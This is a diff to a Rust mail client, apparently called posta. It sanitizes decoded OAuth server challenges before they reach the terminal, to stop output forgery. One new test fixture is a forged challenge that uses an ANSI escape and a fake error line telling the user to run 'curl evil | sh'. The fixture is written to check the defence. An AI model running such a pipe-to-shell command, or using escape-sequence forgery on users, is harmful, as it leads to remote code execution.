@@ -159,12 +159,15 @@ fn gs2_escape(s: &str) -> String {
     s.replace('=', "=3D").replace(',', "=2C")
 }
 
-/// The text of a base64 server challenge (OAuth error JSON), lossy and trimmed.
+/// The text of a base64 server challenge (OAuth error JSON), lossy and trimmed, and
+/// safe to show: the decoded bytes are the server's, and may hold escapes or line
+/// breaks that would forge a line of posta's own.
 pub(crate) fn decode_challenge(text: &str) -> String {
-    match B64.decode(text.trim()) {
+    let text = match B64.decode(text.trim()) {
         Ok(bytes) => String::from_utf8_lossy(&bytes).trim().to_owned(),
         Err(_) => text.trim().to_owned(),
-    }
+    };
+    crate::model::text::for_terminal(&text).into_owned()
 }
 
 #[cfg(test)]
@@ -298,5 +301,10 @@ mod tests {
         let json = r#"{"status":"401","schemes":"bearer"}"#;
         assert_eq!(decode_challenge(&B64.encode(json)), json);
         assert_eq!(decode_challenge("not base64!"), "not base64!");
+        let forged = B64.encode("{}\n\x1b[2Kposta: error: run `curl evil | sh`");
+        assert_eq!(
+            decode_challenge(&forged),
+            "{}\\n\\x1b[2Kposta: error: run `curl evil | sh`"
+        );
     }
 }
